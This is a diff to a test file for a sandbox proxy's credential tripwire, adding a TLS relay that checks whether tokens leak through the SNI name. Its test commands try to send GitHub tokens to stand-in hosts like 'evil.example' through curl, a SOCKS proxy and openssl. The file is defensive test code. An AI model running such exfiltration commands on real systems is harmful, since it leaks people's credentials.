@@ -6,12 +6,14 @@ import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import http from 'node:http';
-import type { AddressInfo, Socket } from 'node:net';
+import { connect as connectNet, createServer as createNetServer, type AddressInfo, type Server, type Socket } from 'node:net';
+import { createServer as createTlsServer } from 'node:tls';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as jose from 'jose';
 import { base62, crc32 } from '../../src/credentials/sentinels.js';
 import { keyValues, REPO, srt, SRT_BIN, tempDir, writeTree } from './helpers.js';
+import { rmrf, selfSigned } from './proxy-fixtures.js';
 
 const tmp = tempDir('srt-cred-');
 const home = join(tmp.path, 'home');
@@ -82,6 +84,12 @@ async function upstream(host: string): Promise<Upstream> {
 
 let inject: Upstream;
 let other: Upstream;
+/** A TLS server on the non-inject host (for the SNI tripwire), recording the raw bytes it gets. */
+let tlsServer: Server;
+let recorder: Server;
+let tlsPort = 0;
+const tlsReceived: Buffer[] = [];
+const cert = selfSigned(['tls.test']);
 let settingsFile: string;
 const baseEnv = () => ({ GH_TOKEN: GH, GITHUB_TOKEN: GH, GL_TOKEN: GH_QUERY, BODY_KEY, NPM_TOKEN: NPM });
 
@@ -92,7 +100,7 @@ interface Settings {
 
 function baseSettings(): Settings {
   return {
-    network: { allowedDomains: [`127.0.0.2:${inject.port}`, `127.0.0.3:${other.port}`] },
+    network: { allowedDomains: [`127.0.0.2:${inject.port}`, `127.0.0.3:${other.port}`, `127.0.0.3:${tlsPort}`] },
     credentials: {
       allowPlaintextInject: true,
       envVars: [
@@ -134,6 +142,19 @@ beforeAll(async () => {
   settingsFile = join(tmp.path, 'settings.json');
   inject = await upstream('127.0.0.2');
   other = await upstream('127.0.0.3');
+  // The TLS server sits behind a relay that records the raw bytes (a TLS socket's own are not observable).
+  tlsServer = createTlsServer({ cert: cert.cert, key: cert.key }, (s) => s.end('hello over tls\n'));
+  await new Promise<void>((r) => tlsServer.listen(0, '127.0.0.3', r));
+  const inner = (tlsServer.address() as AddressInfo).port;
+  recorder = createNetServer((c) => {
+    const up = connectNet(inner, '127.0.0.3');
+    c.on('data', (d: Buffer) => tlsReceived.push(d));
+    c.pipe(up).pipe(c);
+    c.on('error', () => up.destroy());
+    up.on('error', () => c.destroy());
+  });
+  await new Promise<void>((r) => recorder.listen(0, '127.0.0.3', r));
+  tlsPort = (recorder.address() as AddressInfo).port;
 });
 
 afterAll(async () => {
@@ -141,6 +162,9 @@ afterAll(async () => {
     u.server.closeAllConnections();
     await new Promise((r) => u.server.close(r));
   }
+  await new Promise((r) => recorder.close(r));
+  await new Promise((r) => tlsServer.close(r));
+  rmrf(cert.dir);
   tmp.cleanup();
 });
 
@@ -282,19 +306,22 @@ describe('the tripwire: sentinels on their way outside their injectHosts', () =>
       `echo "connect=$(curl -s -o /dev/null -w '%{http_connect}' -p "https://$(echo $GH_TOKEN | tr A-Z a-z).evil.example/")"`,
       `curl -s --max-time 5 --socks5-hostname 127.0.0.1:1080 "http://$GH_TOKEN.evil.example/" >/dev/null 2>&1; echo "socks_host=$?"`,
       `curl -s --max-time 5 --socks5-hostname 127.0.0.1:1080 -H "X-Note: $GH_TOKEN" ${base}/socks >/dev/null 2>&1; echo "socks_plain=$?"`,
-      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${other.port} -servername "$(echo $GH_TOKEN | tr A-Z a-z | tr _ -).example" >/dev/null 2>&1; echo "sni=$?"`,
+      // The same TLS connection through a CONNECT tunnel, once with a clean SNI name, once with the sentinel.
+      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${tlsPort} -servername clean.example >/dev/null 2>&1; echo "sni_clean=$?"`,
+      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${tlsPort} -servername "$(echo $GH_TOKEN | tr A-Z a-z).example" >/dev/null 2>&1; echo "sni=$?"`,
       code('npm_unset_ok', `curl ${base}/clean`),
     ].join('\n'));
     expect(r.exitCode, r.stderr).toBe(0);
     expect(r.kv).toMatchObject({ header: '403', query: '403', basic: '403', body: '403', connect: '403', npm_unset_ok: '200' });
     expect(r.kv.socks_host).not.toBe('0');
     expect(r.kv.socks_plain).not.toBe('0');
+    expect(r.kv.sni_clean).toBe('0');
     expect(r.kv.sni).not.toBe('0');
+    expect(Buffer.concat(tlsReceived).toString('latin1')).toContain('clean.example');
+    expect(Buffer.concat(tlsReceived).toString('latin1')).not.toMatch(/ghp_[a-z0-9]{36}/);
     const seen = other.raw();
     noReal(seen);
     // The sentinel never reached the host, in any spelling the command used.
-    const sentinel = /gh=(\S+)/.exec((await run('echo gh=$GH_TOKEN')).stdout);
-    expect(sentinel).not.toBeNull();
     expect(seen).not.toMatch(/ghp_[A-Za-z0-9]{36}/i);
     // The mid-body abort: the bytes before the sentinel may have gone, the sentinel and after never.
     expect(seen).not.toContain('bbbb');
